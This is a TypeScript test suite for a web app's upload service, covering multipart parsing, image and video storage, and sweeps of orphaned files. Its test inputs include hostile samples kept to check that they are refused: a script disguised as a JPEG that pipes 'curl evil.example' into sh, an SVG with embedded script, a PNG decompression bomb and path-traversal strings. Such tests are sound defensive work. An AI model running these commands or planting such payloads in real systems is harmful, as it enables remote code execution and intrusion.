import type { TUploadStore } from '../../lib/storage';
import { existsSync } from 'node:fs';
import { readFile, utimes, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_IMAGE_BYTES } from '../../../contract/uploads';
import { AppError } from '../../lib/errors';
import { createEvent, DAY } from '../../test/fixtures';
import { createTestApp, type TestApp } from '../../test/test-app';
import {
  discardUpload,
  readMultipart,
  removeUploadIfUnused,
  srcSetOf,
  storeHeroVideo,
  storeImage,
  sweepOrphanUploads,
  SWEEP_MIN_AGE_MS,
} from './uploads.service';
import { filesUnder, imageOf, mp4Of, multipartOf, pngDeclaring, webmOf } from './uploads.test-support';

let t: TestApp;
let uploadsDir: string;
let store: TUploadStore;

beforeAll(async () => {
  t = await createTestApp({
    routes: (app) => {
      // A route of the test's own, to read forms the way the admin routes do.
      app.post('/api/test/form', async (request) => {
        const form = await readMultipart(request, {
          fileField: (field) => (field === 'poster' ? 'poster' : field === 'hero' ? 'hero' : null),
          maxFiles: { count: 2, error: () => new AppError(422, 'validation.failed', 'Too many files.') },
        });
        return { fields: form.fields, files: form.files.map((f) => ({ field: f.field, type: f.type, size: f.bytes.length })) };
      });
    },
  });
  uploadsDir = t.config.uploadsDir;
  store = t.app.uploads;
});
afterAll(async () => t?.close());

async function postForm(entries: Parameters<typeof multipartOf>[0]) {
  const { payload, headers } = await multipartOf(entries);
  return t.app.inject({ method: 'POST', url: '/api/test/form', payload, headers });
}

/** Runs `action`, expects it to throw an AppError with `code`, and checks the uploads directory did not change. */
async function expectRefusedWithoutWriting(action: () => Promise<unknown>, code: string): Promise<AppError> {
  const before = await filesUnder(uploadsDir);
  const error = await action().then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(AppError);
  expect((error as AppError).code).toBe(code);
  expect(await filesUnder(uploadsDir)).toEqual(before);
  return error as AppError;
}

describe('readMultipart', () => {
  it('reads text fields: `name[]` as arrays, repeated names as arrays, bracketed names as raw keys', async () => {
    const res = await postForm([
      ['name', 'Jazz night'],
      ['category_ids[]', '3'],
      ['category_ids[]', '5'],
      ['badge_ids[]', '2'],
      ['tag', 'a'],
      ['tag', 'b'],
      ['images[0][id]', '7'],
      // busboy's plugin refuses names of Object.prototype; with brackets the name gets through to us.
      ['constructor[]', 'plain key'],
    ]);
    expect(res.statusCode).toBe(200);
    expect(res.json().fields).toEqual({
      name: 'Jazz night',
      category_ids: ['3', '5'],
      badge_ids: ['2'],
      tag: ['a', 'b'],
      'images[0][id]': '7',
      constructor: ['plain key'],
    });
  });

  it('reads files with the type decided from their bytes, skips empty parts and drops unknown file fields', async () => {
    const res = await postForm([
      ['poster', { bytes: await imageOf('png'), filename: 'poster.gif', type: 'image/gif' }],
      ['hero', { bytes: mp4Of(10), filename: 'clip.jpg', type: 'image/jpeg' }],
      ['other', { bytes: Buffer.from('ignored'), filename: 'x.txt' }],
      ['poster', { bytes: new Uint8Array(0), filename: '' }],
    ]);
    expect(res.statusCode).toBe(200);
    expect(res.json().files).toEqual([
      { field: 'poster', type: 'image/png', size: expect.any(Number) },
      { field: 'hero', type: 'video/mp4', size: mp4Of(10).length },
    ]);
  });

  it('refuses a script renamed .jpg and sent as image/jpeg with 415', async () => {
    const res = await postForm([['poster', { bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), filename: 'photo.jpg', type: 'image/jpeg' }]]);
    expect(res.statusCode).toBe(415);
    expect(res.json()).toMatchObject({ success: false, code: 'uploads.type_not_allowed' });
  });

  it('refuses a video where only images are allowed', async () => {
    const res = await postForm([['poster', { bytes: mp4Of(5), filename: 'poster.jpg', type: 'image/jpeg' }]]);
    expect(res.statusCode).toBe(415);
    expect(res.json().code).toBe('uploads.type_not_allowed');
  });

  it('stops an image over the size limit with 413, while a video may be larger', async () => {
    const oversized = Buffer.concat([pngDeclaring(10, 10), Buffer.alloc(MAX_IMAGE_BYTES)]);
    const res = await postForm([['poster', { bytes: oversized, filename: 'big.png', type: 'image/png' }]]);
    expect(res.statusCode).toBe(413);
    expect(res.json()).toMatchObject({ success: false, code: 'uploads.too_large' });

    const longVideo = mp4Of(30, { mdatBytes: MAX_IMAGE_BYTES + 10 });
    const ok = await postForm([['hero', { bytes: longVideo, filename: 'v.mp4', type: 'video/mp4' }]]);
    expect(ok.statusCode).toBe(200);
  });

  it('over a real connection, drops the rest of a refused body so the connection is free again', async () => {
    const own = await createTestApp({
      routes: (app) => {
        app.post('/api/test/poster', async (request) => (await readMultipart(request, { fileField: () => 'poster' })).files.length);
      },
    });
    try {
      const address = await own.app.listen({ port: 0, host: '127.0.0.1' });
      const form = new FormData();
      form.append('poster', new Blob([Buffer.concat([pngDeclaring(10, 10), Buffer.alloc(MAX_IMAGE_BYTES + 2 * 1024 * 1024)])]), 'big.png');
      const res = await fetch(`${address}/api/test/poster`, { method: 'POST', body: form });
      expect(res.status).toBe(413);
      expect(((await res.json()) as { code: string }).code).toBe('uploads.too_large');
      // A body left half read keeps its connection busy, and closing the server would wait on it forever.
      const closed = await Promise.race([own.app.close().then(() => 'closed'), new Promise((resolve) => setTimeout(() => resolve('still busy'), 5000))]);
      expect(closed).toBe('closed');
    } finally {
      own.app.server.closeAllConnections();
      await own.close();
    }
  }, 30_000);

  it('answers the caller-given error past maxFiles', async () => {
    const png = await imageOf('png');
    const res = await postForm([1, 2, 3].map((i) => ['poster', { bytes: png, filename: `${i}.png` }] as const));
    expect(res.statusCode).toBe(422);
    expect(res.json().message).toBe('Too many files.');
  });

  it('answers 415 to a body that is not multipart and 400 to a malformed one, never 500', async () => {
    const json = await t.app.inject({ method: 'POST', url: '/api/test/form', payload: { poster: 'x' } });
    expect(json.statusCode).toBe(415);
    expect(json.json().code).toBe('request.unsupported_media_type');

    const cut = await t.app.inject({
      method: 'POST',
      url: '/api/test/form',
      headers: { 'content-type': 'multipart/form-data; boundary=XYZ' },
      payload: '--XYZ\r\nContent-Disposition: form-data; name="poster"; filename="a.png"\r\n\r\n\x89PNG',
    });
    expect(cut.statusCode).toBe(400);
    expect(cut.json().code).toBe('request.malformed');

    const noBoundary = await t.app.inject({ method: 'POST', url: '/api/test/form', headers: { 'content-type': 'multipart/form-data' }, payload: 'x' });
    expect(noBoundary.statusCode).toBe(400);
    expect(noBoundary.json().code).toBe('request.malformed');
  });
});

describe('storeImage', () => {
  it('re-encodes a JPEG to WebP variants without EXIF, turned upright and never upscaled', async () => {
    const stored = await storeImage(store, await imageOf('jpeg', 64, 48), 'poster');
    expect(stored.path).toMatch(/^posters\/[0-9a-f]{32}-800\.webp$/);
    const small = stored.path.replace('-800.webp', '-400.webp');
    expect(stored.srcset).toBe(`/uploads/${small} 400w, /uploads/${stored.path} 800w`);
    for (const relative of [stored.path, small]) {
      const meta = await sharp(await readFile(path.join(uploadsDir, relative))).metadata();
      expect(meta.format).toBe('webp');
      expect(meta.exif).toBeUndefined();
      // EXIF orientation 6 turned the 64×48 source a quarter; the 400 and 800 slots keep its own size.
      expect([meta.width, meta.height]).toEqual([48, 64]);
    }
  });

  it('renders each purpose in its own widths', async () => {
    const wide = await imageOf('png', 2400, 900);
    const slide = await storeImage(store, wide, 'slider');
    expect(slide.path).toMatch(/^slider\/[0-9a-f]{32}-1600\.webp$/);
    const hero = await storeImage(store, wide, 'hero');
    expect(hero.path).toMatch(/^hero\/[0-9a-f]{32}-1920\.webp$/);
    const widths = async (p: string) => (await sharp(await readFile(path.join(uploadsDir, p))).metadata()).width;
    expect(await widths(slide.path)).toBe(1600);
    expect(await widths(slide.path.replace('-1600.', '-800.'))).toBe(800);
    expect(await widths(hero.path)).toBe(1920);
    expect(await widths(hero.path.replace('-1920.', '-960.'))).toBe(960);
  });

  it('refuses a PNG declaring 20000×20000 pixels from its header, writing nothing', async () => {
    const bomb = pngDeclaring(20000, 20000);
    expect(bomb.length).toBeLessThan(200);
    await expectRefusedWithoutWriting(() => storeImage(store, bomb, 'poster'), 'uploads.too_many_pixels');
  });

  it('refuses an undecodable image with 422 and anything not an image with 415, writing nothing', async () => {
    const jpeg = await imageOf('jpeg', 200, 200);
    await expectRefusedWithoutWriting(() => storeImage(store, jpeg.subarray(0, 300), 'slider'), 'uploads.image_unreadable');
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    await expectRefusedWithoutWriting(() => storeImage(store, svg, 'slider'), 'uploads.type_not_allowed');
    await expectRefusedWithoutWriting(() => storeImage(store, mp4Of(3), 'hero'), 'uploads.type_not_allowed');
  });
});

describe('storeHeroVideo', () => {
  it('stores a 30 s MP4 and WebM as they came, with their extension', async () => {
    for (const [bytes, ext] of [
      [mp4Of(30), 'mp4'],
      [webmOf(30), 'webm'],
    ] as const) {
      const stored = await storeHeroVideo(store, bytes);
      expect(stored.path).toMatch(new RegExp(`^hero/[0-9a-f]{32}\\.${ext}$`));
      expect(stored.mime).toBe(`video/${ext}`);
      expect(Buffer.compare(await readFile(path.join(uploadsDir, stored.path)), bytes)).toBe(0);
    }
  });

  it('refuses a 61 s video with the exact message, and a truncated one as unreadable, writing nothing', async () => {
    const long = await expectRefusedWithoutWriting(() => storeHeroVideo(store, mp4Of(61)), 'uploads.video_too_long');
    expect(long.message).toBe('Video must be 60 seconds or less');
    expect(long.status).toBe(422);
    await expectRefusedWithoutWriting(() => storeHeroVideo(store, webmOf(61)), 'uploads.video_too_long');
    const whole = mp4Of(30, { mdatBytes: 2000 });
    await expectRefusedWithoutWriting(() => storeHeroVideo(store, whole.subarray(0, 1000)), 'uploads.video_unreadable');
    await expectRefusedWithoutWriting(() => storeHeroVideo(store, webmOf(null)), 'uploads.video_unreadable');
  });
});

describe('removing stored files', () => {
  it('keeps a file while an event points at it and removes every variant once nothing does', async () => {
    const stored = await storeImage(store, await imageOf('png'), 'poster');
    const eventId = await createEvent(t.app.db, { name: 'Poster holder', start: new Date(Date.now() + DAY) });
    await t.app.db.execute(sql`update events set poster_path = ${stored.path} where id = ${eventId}`);
    const variants = [stored.path, stored.path.replace('-800.', '-400.')].map((p) => path.join(uploadsDir, p));

    await removeUploadIfUnused(t.app.db, store, stored.path);
    expect(variants.map((p) => existsSync(p))).toEqual([true, true]);

    await t.app.db.execute(sql`update events set poster_path = null where id = ${eventId}`);
    await removeUploadIfUnused(t.app.db, store, stored.path);
    expect(variants.map((p) => existsSync(p))).toEqual([false, false]);
  });

  it('never touches a path outside the uploads folders', async () => {
    const before = await filesUnder(path.dirname(uploadsDir));
    await discardUpload(store, '../secret.webp');
    await discardUpload(store, 'posters/../../x-800.webp');
    expect(await filesUnder(path.dirname(uploadsDir))).toEqual(before);
  });

  it('derives a srcset only for stored image variants', () => {
    expect(srcSetOf('hero/abc-1920.webp')).toBe('/uploads/hero/abc-960.webp 960w, /uploads/hero/abc-1920.webp 1920w');
    expect(srcSetOf('slider/demo-sunset-1600.webp')).toBe('/uploads/slider/demo-sunset-800.webp 800w, /uploads/slider/demo-sunset-1600.webp 1600w');
    expect(srcSetOf('hero/abc.mp4')).toBeUndefined();
    expect(srcSetOf('posters/abc-640.webp')).toBeUndefined();
    expect(srcSetOf(null)).toBeUndefined();
  });
});

describe('the start-up sweep', () => {
  it('removes staged .tmp files and files no row points at once they are old, and keeps the rest', async () => {
    const kept = await storeImage(store, await imageOf('png'), 'poster');
    const orphan = await storeImage(store, await imageOf('png'), 'slider');
    const fresh = await storeImage(store, await imageOf('png'), 'poster');
    const eventId = await createEvent(t.app.db, { name: 'Swept poster holder', start: new Date(Date.now() + DAY) });
    await t.app.db.execute(sql`update events set poster_path = ${kept.path} where id = ${eventId}`);
    const staged = 'posters/.abandoned-800.webp.x1y2.tmp';
    const foreign = 'posters/notes.txt';
    await writeFile(path.join(uploadsDir, staged), 'half');
    await writeFile(path.join(uploadsDir, foreign), 'not ours');
    const variantsOf = (p: string, small: string) => [p, p.replace(/-\d+\.webp$/, `-${small}.webp`)];
    const old = new Date(Date.now() - 2 * SWEEP_MIN_AGE_MS);
    for (const p of [...variantsOf(kept.path, '400'), ...variantsOf(orphan.path, '800'), staged, foreign]) await utimes(path.join(uploadsDir, p), old, old);

    const removed = await sweepOrphanUploads(t.app.db, store, new Date());
    expect(removed.sort()).toEqual([...variantsOf(orphan.path, '800'), staged].sort());
    const present = (p: string) => existsSync(path.join(uploadsDir, p));
    expect([...variantsOf(kept.path, '400'), ...variantsOf(fresh.path, '400'), foreign].every(present)).toBe(true);
    expect([...variantsOf(orphan.path, '800'), staged].some(present)).toBe(false);
  });
});
